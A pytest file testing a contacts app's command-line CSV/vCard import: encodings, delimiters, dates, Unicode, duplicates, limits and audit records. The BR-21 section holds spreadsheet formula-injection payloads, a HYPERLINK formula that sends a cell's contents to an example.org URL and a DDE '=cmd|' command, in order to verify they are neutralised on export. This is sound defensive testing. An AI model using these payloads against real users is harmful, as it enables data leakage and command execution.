"""Every case of tests/data/cases/README.md through `ctrack import`, each in
a client of its own: the counts the command prints, the report it keeps
(import_problems) and the values stored, read exactly from the database;
then what the exports give back for the cases about exports. The web
import of the same cases is test_import_web.py; round trips, scope,
tokens, time zones and undo are test_export_formats.py."""
import json
import unicodedata

import pytest

from conftest import ListPage
from import_support import (Tenant, case_bytes, case_path, counts, export_csv, export_json, export_vcf, import_record,
                            imports_of, card_props, problems, ran, values, vsplit, Run)


@pytest.fixture
def tenant(db, people, sessions):
    return Tenant(db, people, sessions)


@pytest.fixture
def tenants(db, people, sessions):
    """tenants() -> a further client of its own."""
    return lambda: Tenant(db, people, sessions)


def write(tmp_path, name, data):
    p = tmp_path / name
    p.write_bytes(data)
    return str(p)


def nothing_stored(t, before_imports=None):
    assert t.count(live=False) == 0, f"contacts were stored: {t.contacts(live=False)}"
    if before_imports is not None:
        assert imports_of(t.db, t.client_id) == before_imports


# ---------------------------------------------------------------- BR-01 BOM

def test_br01_bom_is_not_part_of_the_first_header(tenant, tenants, tmp_path):
    r = ran(tenant.cli_file(case_path("BR-01.csv")))
    counts(r, read=2, created=2)
    assert (r.format, r.encoding) == ("csv", "UTF-8 with BOM"), r
    cs = tenant.contacts()
    assert [c["email"] for c in cs] == ["ana@example.org", "ben@example.org"]
    assert [(c["first_name"], c["last_name"], c["phone"]) for c in cs] == \
        [("Ana", "Example", "+1-555-0100"), ("Ben", "Sample", "+1-555-0101")]
    assert problems(tenant.db, r.id) == []
    # The same file without the BOM: identical records.
    other = tenants()
    data = case_bytes("BR-01.csv")
    assert data.startswith(b"\xef\xbb\xbf")
    r2 = ran(other.cli_file(write(tmp_path, "BR-01-nobom.csv", data[3:])))
    counts(r2, read=2, created=2)
    assert values(other.contacts()) == values(cs)


# ---------------------------------------------------------------- BR-02 semicolons

def test_br02_semicolon_delimiter_detected(tenant):
    r = ran(tenant.cli_file(case_path("BR-02.csv")))
    counts(r, read=2, created=2)
    c = tenant.by("first_name")
    assert set(c) == {"Ana", "Ben"}
    assert (c["Ana"]["last_name"], c["Ana"]["email"], c["Ana"]["phone"], c["Ana"]["notes"]) == \
        ("Example", "ana@example.org", "+49 555 0100", "Met at fair, booth 12")
    assert (c["Ben"]["last_name"], c["Ben"]["email"], c["Ben"]["phone"], c["Ben"]["notes"]) == \
        ("Sample; Jr.", "ben@example.org", "", "Prefers email, not phone")


def test_br02_chosen_semicolon_delimiter(tenant):
    r = ran(tenant.cli_file(case_path("BR-02.csv"), "--delimiter", ";"))
    counts(r, read=2, created=2)
    assert tenant.by("first_name")["Ben"]["last_name"] == "Sample; Jr."


def test_br02_wrong_delimiter_fails_naming_the_delimiter(tenant):
    """Read with commas the header is one column: the import fails naming
    the delimiter problem and makes no contact with a merged field."""
    p = tenant.cli_file(case_path("BR-02.csv"), "--delimiter", ",")
    r = Run(p)
    assert r.rc == 1, r
    assert "delimiter" in r.err and "semicolon" in r.err, r
    assert "nothing changed" in r.err, r
    nothing_stored(tenant)


# ---------------------------------------------------------------- BR-03 Windows-1252

def check_br03(t):
    c = t.by("email")
    assert set(c) == {"ozlem@example.org", "asa@example.org"}
    assert (c["ozlem@example.org"]["first_name"], c["ozlem@example.org"]["last_name"],
            c["ozlem@example.org"]["city"]) == ("Özlem", "Exämple", "Zürich")
    assert (c["asa@example.org"]["first_name"], c["asa@example.org"]["last_name"],
            c["asa@example.org"]["city"]) == ("Åsa", "Sämple", "Malmö \u2013 Süd")
    # Valid UTF-8 in the database, the right bytes, nothing replaced.
    raw = t.db.rows(f"SELECT HEX(first_name), HEX(city) FROM contacts WHERE client_id = {t.client_id} ORDER BY id")
    assert raw == [("Özlem".encode().hex().upper(), "Zürich".encode().hex().upper()),
                   ("Åsa".encode().hex().upper(), "Malmö \u2013 Süd".encode().hex().upper())], raw
    for v in c.values():
        for f in ("first_name", "last_name", "city"):
            assert "\ufffd" not in v[f] and "Ã" not in v[f], v[f]


def test_br03_windows_1252_detected(tenant):
    r = ran(tenant.cli_file(case_path("BR-03.csv")))
    counts(r, read=2, created=2)
    assert r.encoding == "Windows-1252", r
    check_br03(tenant)


def test_br03_windows_1252_declared(tenant):
    r = ran(tenant.cli_file(case_path("BR-03.csv"), "--encoding", "windows-1252"))
    counts(r, read=2, created=2)
    check_br03(tenant)


def test_br03_read_as_utf8_is_rejected_naming_line_2(tenant):
    r = Run(tenant.cli_file(case_path("BR-03.csv"), "--encoding", "utf-8"))
    assert r.rc == 1, r
    assert "line 2" in r.err.lower(), r
    nothing_stored(tenant)


# ---------------------------------------------------------------- BR-05 line breaks in quotes

def test_br05_quoted_line_breaks_stay_in_the_field(tenant):
    r = ran(tenant.cli_file(case_path("BR-05.csv")))
    counts(r, read=2, created=2)
    cs = tenant.contacts()
    assert len(cs) == 2
    c = tenant.by("first_name")
    assert c["Ana"]["address"] == "12 Example Street\nSuite 5\nSpringfield"
    assert c["Ana"]["email"] == "ana@example.org"
    assert (c["Ben"]["email"], c["Ben"]["address"], c["Ben"]["last_name"]) == ("", "PO Box 555\nExample Town",
                                                                               "Sample")


# ---------------------------------------------------------------- BR-06 the product's own quoted CSV

def check_br06(t):
    c = t.by("first_name")
    assert set(c) == {'Ana "Annie"', "Ben", "Cara"}
    ana, ben, cara = c['Ana "Annie"'], c["Ben"], c["Cara"]
    assert (ana["email"], ana["organisation"], ana["notes"], ana["last_name"]) == \
        ("ana@example.org", "Example, Ltd.", "", "Example")
    assert (ben["last_name"], ben["email"], ben["organisation"], ben["notes"]) == \
        ("O'Sample", "ben@example.org", "", 'He said "hi, there"')
    assert (cara["organisation"], cara["notes"], cara["email"]) == ('"Quoted" Co', '""', "cara@example.org")


def test_br06_quoted_fields_and_doubled_quotes(tenant, tenants, tmp_path):
    r = ran(tenant.cli_file(case_path("BR-06.csv")))
    counts(r, read=3, created=3)
    check_br06(tenant)
    # Export, then import into another client: the same values.
    rows = export_csv(tenant.web)
    assert len(rows) == 3
    data = tenant.web.get("/export/contacts.csv").content
    other = tenants()
    r2 = ran(other.cli_file(write(tmp_path, "br06-export.csv", data)))
    counts(r2, read=3, created=3)
    check_br06(other)
    assert values(other.contacts()) == values(tenant.contacts())


# ---------------------------------------------------------------- BR-08 CRLF

def test_br08_crlf_leaves_no_carriage_return(tenant, tenants, tmp_path):
    r = ran(tenant.cli_file(case_path("BR-08.csv")))
    counts(r, read=3, created=3)
    cs = tenant.contacts()
    assert [c["email"] for c in cs] == ["ana@example.org", "ben@example.org", "cara@example.org"]
    assert len(cs[0]["email"]) == 15
    assert all("\r" not in c[f] for c in cs for f in ("first_name", "last_name", "email"))
    # LF only: byte-identical records.
    data = case_bytes("BR-08.csv")
    assert b"\r\n" in data and not data.endswith(b"\n")
    other = tenants()
    counts(ran(other.cli_file(write(tmp_path, "BR-08-lf.csv", data.replace(b"\r\n", b"\n")))), read=3, created=3)
    assert values(other.contacts()) == values(cs)
    # Looking Cara up by her email finds her: an update matched on email.
    cara = [c for c in cs if c["first_name"] == "Cara"][0]
    lookup = b"first_name,email,city\r\nCara,cara@example.org,Lookup Town\r\n"
    r = ran(tenant.cli_file(write(tmp_path, "cara.csv", lookup), "--update"))
    counts(r, read=1, updated=1)
    assert tenant.by("first_name")["Cara"]["city"] == "Lookup Town"
    assert tenant.by("first_name")["Cara"]["id"] == cara["id"]
    assert tenant.db.int(f"SELECT id FROM contacts WHERE client_id = {tenant.client_id}"
                         " AND email_key = 'cara@example.org'") == cara["id"]


# ---------------------------------------------------------------- BR-09 duplicates by email

def test_br09_update_matches_trimmed_case_folded_email(tenant):
    counts(ran(tenant.cli_file(case_path("BR-09-existing.csv"))), read=2, created=2)
    before = tenant.by("first_name")
    r = ran(tenant.cli_file(case_path("BR-09.csv"), "--update", "--match", "email"))
    assert r.n["created"] == 0 and r.n["failed"] == 0 and r.n["read"] == 3, r
    cs = tenant.contacts()
    assert len(cs) == 2, cs
    c = tenant.by("first_name")
    assert c["Ana"]["id"] == before["Ana"]["id"] and c["Ben"]["id"] == before["Ben"]["id"]
    assert c["Ana"]["phone"] == "555-0102", "the last matching row's phone"
    assert c["Ben"]["phone"] == "555-0101"
    for v in c.values():
        assert v["email"] == v["email"].strip() and "\t" not in v["email"], repr(v["email"])
    assert c["Ana"]["email"].lower() == "ana@example.org" and c["Ben"]["email"] == "ben@example.org"
    keys = tenant.db.rows(f"SELECT HEX(email_key) FROM contacts WHERE client_id = {tenant.client_id} ORDER BY id")
    assert [bytes.fromhex(k[0]).decode() for k in keys] == ["ana@example.org", "ben@example.org"]


def test_br09_create_only_skips_matches_instead_of_duplicating(tenant):
    counts(ran(tenant.cli_file(case_path("BR-09-existing.csv"))), read=2, created=2)
    r = ran(tenant.cli_file(case_path("BR-09.csv")))
    counts(r, read=3, skipped=3)
    assert tenant.count() == 2
    reasons = [p[4] for p in problems(tenant.db, r.id)]
    assert len(reasons) == 3 and all("matches contact" in x for x in reasons), reasons


# ---------------------------------------------------------------- BR-11 folded vCard lines

def test_br11_folded_vcard_lines(tenant):
    r = ran(tenant.cli_file(case_path("BR-11.vcf")))
    counts(r, read=2, created=2)
    assert r.format == "vcard"
    c = tenant.by("first_name")
    ana, ben = c["Ana"], c["Ben"]
    assert ana["email"] == "ana.example.with.a.rather.long.mailbox.name@subdomain.example.org"
    assert (ana["address"], ana["city"], ana["address_region"], ana["postal_code"], ana["country"]) == \
        ("12 Example Street\nSuite 5", "Springfield", "Example County", "55501", "United States")
    assert ana["notes"] == "Met at the café on Example Street"
    assert (ben["last_name"], ben["notes"]) == ("Sample", "Met at the fair")
    # Exported lines are at most 75 octets, never split inside a character.
    tenant.db.rows(f"UPDATE contacts SET notes = CONCAT(notes, ' ', REPEAT('é', 80), ' ', REPEAT('日本', 30))"
                   f" WHERE client_id = {tenant.client_id}")
    for version in ("4", "3"):
        raw, cards = export_vcf(tenant.web, f"version={version}")
        assert len(cards) == 2
        for line in raw.split(b"\r\n"):
            assert len(line) <= 75, f"a vCard {version} line of {len(line)} octets: {line!r}"
            line.decode("utf-8")  # a split inside a UTF-8 sequence fails here
        notes = {vsplit(card_props(cd, "N")[0][1])[1]: [v for _, v in card_props(cd, "NOTE")] for cd in cards}
        assert notes["Ana"] == ["Met at the café on Example Street " + "é" * 80 + " " + "日本" * 30]


# ---------------------------------------------------------------- BR-13 several emails and phones

def test_br13_every_email_and_phone_with_its_types(tenant):
    r = ran(tenant.cli_file(case_path("BR-13.vcf")))
    counts(r, read=3, created=3)
    c = tenant.by("first_name")
    for name in ("Ana", "Ben", "Cara"):
        assert len(c[name]["emails"]) == 1 and len(c[name]["phones"]) == 1, \
            f"{name}: 2 emails and 2 phones in all: {c[name]}"
    ana, ben, cara = c["Ana"], c["Ben"], c["Cara"]

    def types(t):
        return set(t.split(",")) - {""}
    # Ana (2.1): emails work/home, the preferred one first.
    assert (ana["email"], types(ana["email_type"])) == ("ana@example.org", {"home"})
    assert [(v, types(t)) for v, t in ana["emails"]] == [("ana@work.example.org", {"work"})]
    assert ana["phone"] == "555-0100" and "home" in types(ana["phone_type"])
    assert [v for v, _ in ana["phones"]] == ["555-0101"] and "cell" in types(ana["phones"][0][1])
    # Ben (3.0)
    assert ben["email"] == "ben@work.example.org" and "work" in types(ben["email_type"])
    assert [(v, types(t)) for v, t in ben["emails"]] == [("ben@example.org", {"home"})]
    assert (ben["phone"], types(ben["phone_type"])) == ("+1-555-0102", {"cell"})
    assert [v for v, _ in ben["phones"]] == ["+1-555-0103"] and "work" in types(ben["phones"][0][1])
    # Cara (4.0): PREF=1, a quoted TYPE list, tel: URIs with an extension.
    assert (cara["email"], types(cara["email_type"])) == ("cara@work.example.org", {"work"})
    assert [(v, types(t)) for v, t in cara["emails"]] == [("cara@example.org", {"home"})]
    assert (cara["phone"], types(cara["phone_type"])) == ("+1-555-0104", {"voice", "cell"})
    assert [v for v, _ in cara["phones"]] == ["+1-555-0105 ext. 12"]
    assert "work" in types(cara["phones"][0][1])
    assert all("tel:" not in v for x in c.values() for v, _ in x["phones"] + [(x["phone"], "")])
    # Nothing the model cannot hold was in the file: no errors in the report.
    assert [p for p in problems(tenant.db, r.id) if p[2] == "error"] == []


def test_br13_what_the_model_cannot_hold_is_reported(tenant, tmp_path):
    card = (b"BEGIN:VCARD\r\nVERSION:3.0\r\nN:Example;Ana;;;\r\nFN:Ana Example\r\n"
            b"EMAIL;TYPE=HOME:ana@example.org\r\nIMPP:xmpp:ana@example.org\r\nX-SOCIALPROFILE:ana\r\n"
            b"ADR:;;1 First St;Town;;;\r\nADR;TYPE=WORK:;;2 Second St;Town;;;\r\nEND:VCARD\r\n")
    r = ran(tenant.cli_file(write(tmp_path, "extra.vcf", card)))
    counts(r, read=1, created=1)
    reasons = " | ".join(p[4] for p in problems(tenant.db, r.id) if p[2] == "warning")
    for word in ("IMPP", "X-SOCIALPROFILE", "postal address"):
        assert word in reasons, f"{word} is not named in the report: {reasons}"
    assert tenant.by("first_name")["Ana"]["address"] == "1 First St"


# ---------------------------------------------------------------- BR-15 birthdays as calendar dates

BR15_DAYS = {"Ana": "1956-04-12", "Ben": "1985-10-27", "Cara": "1990-03-25", "Dan": "2000-01-01"}


def test_br15_birthdays_are_calendar_dates(tenant):
    counts(ran(tenant.cli_file(case_path("BR-15.vcf"))), read=4, created=4)
    assert {n: c["birthday"] for n, c in tenant.by("first_name").items()} == BR15_DAYS
    # Every export shows exactly these days.
    assert {r["first_name"]: r["birthday"] for r in export_csv(tenant.web)} == BR15_DAYS
    assert {r["first_name"]: r["birthday"] for r in export_json(tenant.web)} == BR15_DAYS
    for version, form in (("4", lambda d: d.replace("-", "")), ("3", lambda d: d)):
        _, cards = export_vcf(tenant.web, f"version={version}")
        got = {vsplit(card_props(cd, "N")[0][1])[1]: [v for _, v in card_props(cd, "BDAY")] for cd in cards}
        assert got == {n: [form(d)] for n, d in BR15_DAYS.items()}, f"vCard {version}: {got}"


# ---------------------------------------------------------------- BR-16 date orders

BR16_MDY = {"Ana": "1990-03-04", "Ben": "1985-12-31", "Cara": "--04-15", "Dan": "1990-04-03"}
BR16_DMY = {"Ana": "1990-04-03", "Dan": "1990-04-03", "Eve": "1992-01-13"}


def birthday_errors(db, import_id):
    return {rec: why for rec, _, sev, col, why in problems(db, import_id) if sev == "error" and col == "birthday"}


def test_br16_month_first(tenant):
    r = ran(tenant.cli_file(case_path("BR-16.csv"), "--dates", "mdy", "--valid-rows"))
    counts(r, read=5, created=4, failed=1)
    assert {n: c["birthday"] for n, c in tenant.by("first_name").items()} == BR16_MDY
    errs = birthday_errors(tenant.db, r.id)
    assert list(errs) == [5] and "13 is not a month" in errs[5], errs


def test_br16_day_first(tenant):
    r = ran(tenant.cli_file(case_path("BR-16.csv"), "--dates", "dmy", "--valid-rows"))
    counts(r, read=5, created=3, failed=2)
    assert {n: c["birthday"] for n, c in tenant.by("first_name").items()} == BR16_DMY
    errs = birthday_errors(tenant.db, r.id)
    assert sorted(errs) == [2, 3], errs
    assert "31 is not a month" in errs[2] and "15 is not a month" in errs[3], errs


def test_br16_all_or_nothing_and_iso_only(tenant):
    # All or nothing (the default): an error row means nothing is imported.
    r = ran(tenant.cli_file(case_path("BR-16.csv"), "--dates", "mdy"), rc=1)
    assert r.n["failed"] == 1 and r.n["created"] == 0, r
    nothing_stored(tenant)
    assert import_record(tenant.db, r.id)["status"] == "uploaded"
    # Without a declared order only ISO dates are read: no per-row guessing.
    r = ran(tenant.cli_file(case_path("BR-16.csv"), "--valid-rows"))
    counts(r, read=5, created=1, failed=4)
    assert {n: c["birthday"] for n, c in tenant.by("first_name").items()} == {"Dan": "1990-04-03"}


# ---------------------------------------------------------------- BR-18 non-Latin scripts, Google headers

BR18 = {  # email: (first, last, phone, phone type)
    "darya@example.org": ("Дарья", "Пример", "+7 555 010-01-00", "cell"),
    "eleni@example.org": ("Ελένη", "Παράδειγμα", "", ""),
    "layla@example.org": ("ليلى", "مثال", "+20 555 0102", "cell"),
    "reiko@example.org": ("例子", "山田", "", ""),
    "ananya@example.org": ("अनन्या", "उदाहरण", "+91 555 010 0104", "cell"),
}


def check_br18(t):
    c = t.by("email")
    assert set(c) == set(BR18)
    for email, (first, last, phone, ptype) in BR18.items():
        got = c[email]
        assert (got["first_name"], got["last_name"], got["phone"]) == (first, last, phone), got
        assert ptype in got["phone_type"].split(",") if ptype else got["phone_type"] == "", got
        assert "?" not in got["first_name"] + got["last_name"]


def test_br18_google_csv_in_other_scripts(tenant):
    r = ran(tenant.cli_file(case_path("BR-18.csv")))
    counts(r, read=5, created=5)
    check_br18(tenant)
    c = tenant.by("email")
    assert c["darya@example.org"]["email_type"] == "home" and c["layla@example.org"]["email_type"] == "work"
    # Byte for byte as in the file.
    raw = tenant.db.rows(f"SELECT HEX(first_name) FROM contacts WHERE client_id = {tenant.client_id} ORDER BY id")
    assert raw[0][0] == "Дарья".encode().hex().upper()
    # Search in Cyrillic.
    lp = ListPage(tenant.web.get("/contacts?q=%D0%9F%D1%80%D0%B8%D0%BC%D0%B5%D1%80"))
    assert lp.ids == [c["darya@example.org"]["id"]]


def test_br18_limits_count_characters(tenant, tmp_path):
    ok_name, long_name = "Ж" * 100, "Ж" * 101
    data = ("first_name,last_name,email\n"
            f"Ok,{ok_name},ok@example.org\nLong,{long_name},long@example.org\n").encode()
    r = ran(tenant.cli_file(write(tmp_path, "limits.csv", data), "--valid-rows"))
    counts(r, read=2, created=1, failed=1)
    c = tenant.by("first_name")
    assert list(c) == ["Ok"] and c["Ok"]["last_name"] == ok_name, "100 characters (200 bytes) fit"
    (rec, line, sev, col, why), = problems(tenant.db, r.id)
    assert (rec, line, sev, col) == (2, 3, "error", "last_name") and "100" in why, why


# ---------------------------------------------------------------- BR-19 Unicode normalisation

def test_br19_names_stored_in_nfc_and_search_normalised(tenant):
    data = case_bytes("BR-19.csv")
    assert "Jose\u0301".encode() in data and "Zoe\u0308".encode() in data
    r = ran(tenant.cli_file(case_path("BR-19.csv")))
    counts(r, read=4, created=4)
    raw = tenant.db.rows(f"SELECT HEX(first_name) FROM contacts WHERE client_id = {tenant.client_id} ORDER BY id")
    assert raw[1][0] == "4A6F73C3A9", raw
    c = tenant.by("email")
    assert {e: v["first_name"] for e, v in c.items()} == {
        "jose1@example.org": "José", "jose2@example.org": "José", "alvaro@example.org": "Álvaro",
        "zoe@example.org": "Zoë"}
    for v in c.values():
        assert unicodedata.is_normalized("NFC", v["first_name"])
    jose = sorted([c["jose1@example.org"]["id"], c["jose2@example.org"]["id"]])
    from urllib.parse import quote
    for q in ("jose", "José", unicodedata.normalize("NFD", "José")):
        lp = ListPage(tenant.web.get("/contacts?q=" + quote(q)))
        assert sorted(lp.ids) == jose, f"search {q!r} ({q.encode().hex()}) found {lp.ids}"
    assert ListPage(tenant.web.get("/contacts?q=alvaro")).ids == [c["alvaro@example.org"]["id"]]
    assert ListPage(tenant.web.get("/contacts?q=zoe")).ids == [c["zoe@example.org"]["id"]]


# ---------------------------------------------------------------- BR-20 phones and postal codes as text

BR20 = {"Ana": ("0555 010 0199", "01234"), "Ben": ("+1 (555) 010-0100", "00501"),
        "Cara": ("00 44 555 0100", "SW1A 0AA"), "Dan": ("555-0100 ext. 12", "02108"),
        "Eve": ("+15550100100", "07030")}


def test_br20_phones_and_postal_codes_kept_as_text(tenant):
    counts(ran(tenant.cli_file(case_path("BR-20.csv"))), read=5, created=5)
    assert {n: (c["phone"], c["postal_code"]) for n, c in tenant.by("first_name").items()} == BR20
    # The export writes them as text: exactly as stored.
    assert {r["first_name"]: (r["phone"], r["postal_code"]) for r in export_csv(tenant.web)} == BR20
    assert {r["first_name"]: (r["phone"], r["postal_code"]) for r in export_json(tenant.web)} == BR20
    raw = tenant.web.get("/export/contacts.csv").content.decode()
    for phone, code in BR20.values():
        assert f",{code}," in raw or f',"{code}",' in raw, code


# ---------------------------------------------------------------- BR-21 formula injection

BR21_STORED = {
    "Ana": {"first_name": '=HYPERLINK("http://example.org/?d="&C2,"open")', "organisation": "Example Ltd",
            "phone": "+1-555-0100", "notes": "ok", "last_name": "Example"},
    "Ben": {"last_name": "+SUM(1;1)", "organisation": "@SUM(1+1)", "phone": "555-0101", "notes": "-2+3"},
    "Cara": {"phone": "555-0102", "notes": "=cmd|' /C notepad'!A0", "last_name": "Test"},
    "Dan": {"organisation": "Plain Co", "phone": "555-0103", "notes": "-just a dash note", "last_name": "Demo"},
}


def br21_by_email(rows):
    return {r["email"]: r for r in rows}


def test_br21_stored_exactly_and_exported_safe_for_spreadsheets(tenant, tenants, tmp_path):
    counts(ran(tenant.cli_file(case_path("BR-21.csv"))), read=4, created=4)
    stored = br21_by_email(tenant.contacts())
    names = {"ana@example.org": "Ana", "ben@example.org": "Ben", "cara@example.org": "Cara", "dan@example.org": "Dan"}
    for email, name in names.items():
        for f, v in BR21_STORED[name].items():
            assert stored[email][f] == v, f"{name} {f}: {stored[email][f]!r}, expected {v!r}"
    # The raw exports (report scripts): the exact stored values.
    raw_rows = br21_by_email(export_csv(tenant.web))
    json_rows = br21_by_email(export_json(tenant.web))
    for email, name in names.items():
        for f, v in BR21_STORED[name].items():
            assert raw_rows[email][f] == v, f"raw CSV {name} {f}: {raw_rows[email][f]!r}"
            assert json_rows[email][f] == v, f"JSON {name} {f}: {json_rows[email][f]!r}"
    # The spreadsheet export: a leading ' and quotes on every risky cell.
    safe = tenant.web.get("/export/contacts.csv?safe=1&bom=1").content
    assert safe.startswith(b"\xef\xbb\xbf")
    text = safe.decode("utf-8")
    for cell in ('"\'=HYPERLINK(""http://example.org/?d=""&C2,""open"")"', '"\'+SUM(1;1)"', '"\'@SUM(1+1)"',
                 '"\'-2+3"', '"\'+1-555-0100"', '"\'=cmd|\' /C notepad\'!A0"',
                 '"\'-just a dash note"'):
        assert cell in text, f"{cell!r} not in the spreadsheet export"
    safe_rows = br21_by_email(export_csv(tenant.web, "safe=1"))
    assert safe_rows["dan@example.org"]["organisation"] == "Plain Co"
    assert safe_rows["ana@example.org"]["organisation"] == "Example Ltd"
    assert safe_rows["ben@example.org"]["phone"] == "555-0101"
    assert ",Plain Co," in text and ",Example Ltd," in text, "other cells are unchanged"
    # Re-importing the spreadsheet export strips the one added quote.
    other = tenants()
    counts(ran(other.cli_file(write(tmp_path, "br21-safe.csv", safe))), read=4, created=4)
    assert values(other.contacts()) == values(tenant.contacts())


def test_br21_leading_tab_cell_trimmed_and_made_safe(tenant):
    """Cara's company is TAB then =1+1. Surrounding spaces and TABs of a
    one-line value are trimmed on every way in (the form's rule, README
    "Importing contacts"), so it is stored as =1+1; the spreadsheet export
    makes that safe ('=1+1, quoted) and the raw export gives it exactly."""
    counts(ran(tenant.cli_file(case_path("BR-21.csv"))), read=4, created=4)
    cara = br21_by_email(tenant.contacts())["cara@example.org"]
    assert cara["organisation"] == "=1+1", f"stored {cara['organisation']!r}"
    text = tenant.web.get("/export/contacts.csv?safe=1").content.decode()
    assert ',"\'=1+1",' in text, "no '=1+1 cell in the spreadsheet export"
    raw = br21_by_email(export_csv(tenant.web))
    assert raw["cara@example.org"]["organisation"] == "=1+1"


# ---------------------------------------------------------------- BR-23 audit of bulk actions (command line)

def test_br23_command_line_import_is_audited(tenant, audit):
    mark = audit.mark()
    r = ran(tenant.cli_file(case_path("BR-23.csv")))
    counts(r, read=3, created=3)
    rows = audit.since(mark)
    assert len(rows) == 1, [(x["method"], x["path"], x["action"]) for x in rows]
    row = rows[0]
    assert (row["method"], row["path"], row["action"], row["client_id"], row["object_type"], row["object_id"],
            row["outcome"]) == ("CLI", "import", "contact.import", tenant.client_id, "import", r.id, 200), row
    assert row["at"], "the time"
    d = json.loads(row["detail"])
    import hashlib
    data = case_bytes("BR-23.csv")
    ids = [c["id"] for c in tenant.contacts()]
    assert d["file"] == {"name": "BR-23.csv", "sha256": d["file"]["sha256"], "size": len(data)}
    assert d["file"]["sha256"].lower() == hashlib.sha256(data).hexdigest()
    assert (d["rows_read"], d["created"], sorted(d["created_ids"])) == (3, 3, ids)
    linked = [int(x[0]) for x in tenant.db.rows(f"SELECT contact_id FROM audit_contacts WHERE audit_id = {row['id']}"
                                                " ORDER BY contact_id")]
    assert linked == ids, "each created contact's history names the import"
    assert all(c["campaigns"] == ["Spring"] for c in tenant.contacts())


# ---------------------------------------------------------------- BR-25 deleted_at column and deleted contacts

def test_br25_deleted_at_column_hides_nothing(tenant):
    r = ran(tenant.cli_file(case_path("BR-25.csv")))
    counts(r, read=3, created=3)
    cs = tenant.contacts()
    assert [c["first_name"] for c in cs] == ["Ana", "Ben", "Cara"]
    assert all(c["deleted_at"] is None for c in cs)
    lp = ListPage(tenant.web.get("/contacts"))
    assert sorted(lp.ids) == [c["id"] for c in cs] and lp.total == 3


@pytest.mark.parametrize("option", ["skip", "restore"])
def test_br25_reimport_of_a_deleted_contact(tenant, option):
    counts(ran(tenant.cli_file(case_path("BR-25.csv"))), read=3, created=3)
    c = tenant.by("first_name")
    ben = c["Ben"]["id"]
    assert tenant.web.post(f"/contacts/{ben}/delete").status_code == 303
    assert tenant.by("first_name", live=False)["Ben"]["deleted_at"] is not None
    r = ran(tenant.cli_file(case_path("BR-25.csv"), "--deleted", option))
    if option == "skip":
        counts(r, read=3, skipped=3)
        assert [x["first_name"] for x in tenant.contacts()] == ["Ana", "Cara"]
    else:
        counts(r, read=3, restored=1, skipped=2)
        assert [x["first_name"] for x in tenant.contacts()] == ["Ana", "Ben", "Cara"]
        assert tenant.by("first_name")["Ben"]["id"] == ben
    # Not silently: the report names the deleted contact either way.
    reasons = {rec: why for rec, _, _, _, why in problems(tenant.db, r.id)}
    assert "matches a deleted contact" in reasons.get(2, ""), f"--deleted {option}: the report says {reasons}"


# ---------------------------------------------------------------- BR-27 over-long values

def test_br27_over_long_values_counted_exactly(tenant):
    r = ran(tenant.cli_file(case_path("BR-27.csv"), "--valid-rows"))
    assert r.n["created"] + r.n["failed"] == 4 and r.n["read"] == 4, r
    counts(r, read=4, created=2, failed=2)
    cs = tenant.contacts(live=False)
    assert len(cs) == r.n["created"] == 2, "the contacts created are the number imported"
    c = tenant.by("first_name")
    assert set(c) == {"Ana", "Dan"}
    assert c["Dan"]["last_name"] == "é" * 100
    assert tenant.db.value(f"SELECT HEX(last_name) FROM contacts WHERE id = {c['Dan']['id']}") == "C3A9" * 100
    errs = {rec: (line, col, why) for rec, line, sev, col, why in problems(tenant.db, r.id) if sev == "error"}
    assert sorted(errs) == [2, 3], errs
    assert errs[2][:2] == (3, "company") and "200" in errs[2][2], errs[2]
    assert errs[3][:2] == (4, "note") and "10000" in errs[3][2].replace(",", ""), errs[3]
    rec = import_record(tenant.db, r.id)
    assert (rec["rows_read"], rec["created"], rec["failed"]) == (4, 2, 2)


def test_br27_all_or_nothing_creates_nothing(tenant):
    r = ran(tenant.cli_file(case_path("BR-27.csv")), rc=1)
    assert (r.n["read"], r.n["created"], r.n["failed"]) == (4, 0, 2), r
    nothing_stored(tenant)


# ---------------------------------------------------------------- bad input

BAD = {
    "png": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4"
            b"\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"),
    "xlsx": (b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00b\xee\x9dh^\x01\x00\x00\x90\x04\x00\x00\x13\x00"
             b"\x08\x02[Content_Types].xml \xa2\x04\x02(\xa0\x00\x02\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"),
}


@pytest.mark.parametrize("kind", sorted(BAD))
def test_binary_files_are_refused(tenant, tmp_path, kind):
    r = Run(tenant.cli_file(write(tmp_path, f"contacts.{kind}", BAD[kind])))
    assert r.rc == 1, r
    assert "nothing changed" in r.err and len(r.err.strip()) > 30, r
    assert "text" in r.err.lower() or "binary" in r.err.lower() or "spreadsheet" in r.err.lower(), r
    nothing_stored(tenant)


def test_truncated_csv_with_an_open_quote(tenant, tmp_path):
    data = b'first_name,last_name,email\r\nAna,Example,ana@example.org\r\nBen,"Sample,ben@example.org\r\n'
    r = ran(tenant.cli_file(write(tmp_path, "open-quote.csv", data)), rc=1)
    assert r.n["created"] == 0 and r.n["failed"] >= 1, r
    errors = [p for p in problems(tenant.db, r.id) if p[2] == "error"]
    assert errors, r
    assert any("line 3" in p[4].lower() or p[1] == 3 for p in errors), errors
    assert any("quote" in p[4].lower() for p in errors), errors
    nothing_stored(tenant)


def test_rows_with_more_fields_than_the_header(tenant, tmp_path):
    data = b"first_name,last_name,email\nAna,Example,ana@example.org\nBen,Sample,ben@example.org,extra\n"
    r = ran(tenant.cli_file(write(tmp_path, "wide.csv", data)), rc=1)
    assert (r.n["read"], r.n["failed"], r.n["created"]) == (2, 1, 0), r
    (rec, line, sev, col, why), = problems(tenant.db, r.id)
    assert (rec, line, sev) == (2, 3, "error") and "4 fields" in why and "3" in why, why
    assert "row 2 (line 3)" in r.out, r
    nothing_stored(tenant)


def test_invalid_dates(tenant, tmp_path):
    data = b"first_name,email,birthday\nAna,ana@example.org,2023-02-30\nBen,ben@example.org,1990-13-01\n"
    r = ran(tenant.cli_file(write(tmp_path, "dates.csv", data)), rc=1)
    assert (r.n["failed"], r.n["created"]) == (2, 0), r
    ps = problems(tenant.db, r.id)
    assert [(p[0], p[1], p[2], p[3]) for p in ps] == [(1, 2, "error", "birthday"), (2, 3, "error", "birthday")], ps
    assert "2023-02-30" in ps[0][4] and "1990-13-01" in ps[1][4]
    nothing_stored(tenant)


def test_unknown_encoding(tenant):
    before = imports_of(tenant.db, tenant.client_id)
